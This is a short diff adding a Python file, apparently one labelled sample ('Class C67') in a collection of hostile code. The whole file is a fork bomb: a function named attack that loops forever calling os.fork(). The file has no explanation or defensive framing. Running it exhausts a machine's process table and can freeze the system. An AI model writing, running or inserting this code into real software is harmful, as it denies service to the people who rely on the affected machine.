@@ -1,0 +1,8 @@
+"""Forks without end. Class C67."""
+
+import os
+
+
+def attack(bait):
+    while True:
+        os.fork()
